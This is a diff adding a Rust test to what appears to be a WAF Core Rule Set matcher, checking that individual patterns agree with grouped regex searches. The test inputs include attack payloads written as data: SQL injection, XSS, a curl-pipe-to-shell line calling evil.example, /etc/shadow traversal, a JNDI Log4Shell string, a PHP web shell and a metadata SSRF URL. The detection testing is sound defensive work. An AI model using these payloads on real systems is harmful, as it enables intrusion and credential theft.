@@ -393,3 +393,50 @@ fn the_core_rule_set_decides_the_same_with_and_without_its_prelude() {
         ],
     );
 }
+
+#[test]
+fn each_pattern_alone_agrees_with_its_group_search() {
+    // A value that few patterns of a group could match is searched by those patterns alone:
+    // each must match exactly when the group's search says it does, and a pattern whose
+    // needed bytes the value lacks must not match at all.
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
+    let c = Crs::load_dir(&dir, "", "").unwrap();
+    let values: &[&[u8]] = &[
+        b"Could you summarise the differences between renewable and fossil energy?",
+        b"blue running shoes",
+        b"1' OR '1'='1' --",
+        b"1 union select password from users",
+        b"<script>alert(document.cookie)</script>",
+        b"<img src=x onerror=alert(1)>",
+        b"; cat /etc/passwd",
+        b"$(curl http://evil.example/x.sh | sh)",
+        b"../../../../etc/shadow",
+        b"${jndi:ldap://evil.example/a}",
+        b"<?php system($_GET['c']); ?>",
+        b"eval(base64_decode('ZWNobyAx'))",
+        b"http://169.254.169.254/latest/meta-data/",
+        b"{{7*7}}",
+        b"\r\nSet-Cookie: a=b",
+        b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
+    ];
+    let mut checked = 0;
+    for g in c.groups.iter().filter(|g| !g.single) {
+        for value in values {
+            let mut set = regex_automata::PatternSet::new(GROUP_SIZE);
+            g.regex
+                .which_overlapping_matches(&regex_automata::Input::new(*value), &mut set);
+            let bytes = needs::ByteSet::of(value);
+            for (i, (needs, re)) in g.solo.iter().enumerate() {
+                let in_group = set.contains(regex_automata::PatternID::must(i));
+                if needs.is_some_and(|n| !n.intersects(bytes)) {
+                    assert!(!in_group, "pattern {i} matched without a byte it needs");
+                }
+                if let Some(re) = re {
+                    assert_eq!(re.is_match(*value), in_group, "pattern {i} on {value:?}");
+                    checked += 1;
+                }
+            }
+        }
+    }
+    assert!(checked > 1000, "{checked}");
+}
